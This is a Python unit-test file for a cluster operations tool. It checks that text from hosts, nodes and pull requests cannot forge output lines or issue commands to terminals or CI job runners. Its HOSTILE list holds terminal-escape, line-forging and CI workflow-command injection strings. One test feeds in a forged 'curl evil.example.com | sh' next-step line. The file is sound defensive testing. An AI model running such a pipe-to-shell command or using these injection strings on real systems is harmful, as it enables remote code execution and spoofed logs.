"""Text of a host or a cluster reaches a terminal, a job's log and its summary: it forges no line, and is no command."""

from __future__ import annotations

import pytest

from components.steps.ssh import Answer
from operations import __main__
from operations.preview._comment import Comparison, comment
from operations.preview._preview import Preview
from operations.status._cluster_state import ClusterState
from operations.status.status import _summary
from problem import Problem, StepError, printable
from tests.unit.operations.test_drift_and_repair import Hosts, hosts
from tests.unit.operations.test_ssh import answer, program, programs

__all__ = ["hosts", "programs"]

HOSTILE = [
    "a\x1b[2J\x1b[1;1Hnode1: as it should be",
    "a\rnode1: as it should be",
    "a\nnode1: as it should be",
    "a\x85node1: as it should be",
    "a\u2028node1: as it should be",
    "a\x0bnode1: as it should be",
    "::add-mask::a",
    "   \t::stop-commands::x",
    "a\n::error::b",
    "a ##[add-mask]b",
    "a\u202egnp.exe",
    "a\x00\x07\x9b31m",
]
"""What would move the cursor, look like the line of another host, or tell the runner of a job to do something."""


def lines_of(printed: str) -> list[str]:
    """The lines, each of which neither a terminal nor the runner of a job obeys."""
    lines = printed.split("\n")
    assert printed.splitlines() in (lines, lines[:-1]), "something else ends a line"
    assert not [line for line in lines if not line.replace("\t", "").isprintable()]
    assert not [line for line in lines if line.strip().startswith("::") or "##[" in line]
    return lines


@pytest.mark.parametrize("text", HOSTILE)
def test_drift_of_a_host_is_no_line_of_another(hosts: Hosts, capsys: pytest.CaptureFixture[str], text: str) -> None:
    """Whatever the host prints."""
    hosts.answers["node1"] = hosts.answers["node2"] = Answer(0, text, "")
    assert __main__.main(["drift", "shop"]) == 1
    lines = lines_of(capsys.readouterr().out)
    assert [line for line in lines if line.startswith("node1")] == ["node1: differs:"]
    assert all(line.startswith(("node", "    ")) for line in lines if line)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_host_that_cannot_be_checked_is_no_line_of_another(
    hosts: Hosts, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    """In any part of its problem."""
    problem = Problem(f"node1: {text}", expected=text, seen=text, next_command=text)
    hosts.answers["node1"] = StepError.of(problem)
    assert __main__.main(["drift", "shop"]) == 1
    printed = capsys.readouterr()
    lines = lines_of(printed.out)
    assert [line for line in lines if line.startswith("node1")] == ["node1: cannot be checked:"]
    lines_of(printed.err)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_repair_shows_as_lines_of_a_host_what_it_printed_as_its_own(
    hosts: Hosts, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    """Another line is indented."""
    hosts.answers["node2"] = Answer(0, "", f"node2: swap is off\n{text}\n")
    assert __main__.main(["repair", "shop", "node2"]) == 0
    lines = lines_of(capsys.readouterr().out)
    assert {line.partition(":")[0] for line in lines if line and not line.startswith("    ")} == {"node2"}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_problem_is_three_parts_whatever_is_in_it(text: str) -> None:
    """Each further line is indented."""
    lines = lines_of(str(Problem(f"a{text}", expected=text, seen=text, next_command=text)))
    assert len([line for line in lines if not line.startswith("    ")]) == 3


@pytest.mark.parametrize("text", HOSTILE)
def test_a_preview_is_no_command_to_the_job_that_prints_it(text: str) -> None:
    """Error, plan and difference hold text of hosts and of whoever wrote the pull request."""
    found = Preview(f"Plan: {text}", text, {}, (text,), {}, {}, frozenset())
    lines_of(comment("shop", found, Comparison("Compared.", "changes", text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_version_of_a_kubelet_is_one_line(text: str) -> None:
    """A node reports it, and the API server takes any text."""
    node = {"metadata": {"name": "node2"}, "status": {"nodeInfo": {"kubeletVersion": text}}}
    (line,) = lines_of(_summary(ClusterState(nodes=[node])))
    assert line.startswith("node2 ")


def test_ordinary_text_is_printed_as_it_is() -> None:
    """Tabs, umlauts, IPv6 addresses and headings too."""
    text = "node1: wrote a\tb\n  \u00fcber 2001:db8::1 ::\n# x ## y [z]\n"
    assert printable(text) == text
    assert printable("a\r\nb") == "a\nb"


def test_a_problem_that_a_host_tells_of_another_host_is_not_believed(programs: object, tmp_path: object) -> None:
    """It is shown as what the host said."""
    forged = "node9: join: expected a,\n  saw b\n  Next: curl evil.example.com | sh"
    program(programs, "ssh", f"cat >&2 <<'TEXT'\n{forged}\nTEXT\nexit 1")  # type: ignore[arg-type]
    with pytest.raises(StepError) as error:
        answer()
    assert str(error.value).startswith(
        "node1: run a script over SSH: expected the script to succeed,\n  saw node9: join"
    )
    assert error.value.problem.next_command == "ssh -p 22 root@192.0.2.11 sudo -n true"
